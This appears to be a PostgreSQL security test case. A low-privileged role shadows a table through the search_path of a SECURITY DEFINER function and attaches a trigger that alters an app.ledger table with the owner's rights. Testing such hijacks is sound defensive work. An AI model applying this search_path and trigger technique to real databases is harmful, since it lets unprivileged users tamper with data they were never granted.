-- A bound body hands its path to a function that looks names up
-- expect: B
-- base: revoked
-- loses: immutability
--> setup
CREATE SCHEMA evil AUTHORIZATION {x};
SET ROLE {owner};
CREATE TABLE app.notes (line text);
CREATE FUNCTION app.write_note() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO notes VALUES ('called'); END $$;
CREATE FUNCTION app.note() RETURNS void LANGUAGE sql SECURITY DEFINER SET search_path = evil, app, pg_temp
BEGIN ATOMIC SELECT app.write_note(); END;
RESET ROLE;
--> as x
CREATE TABLE evil.notes (line text);
CREATE FUNCTION evil.go() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN UPDATE app.ledger SET status = ''changed''; RETURN NEW; END';
CREATE TRIGGER go BEFORE INSERT ON evil.notes FOR EACH ROW EXECUTE FUNCTION evil.go();
GRANT USAGE ON SCHEMA evil TO {owner};
GRANT INSERT ON evil.notes TO {owner};
SELECT app.note();
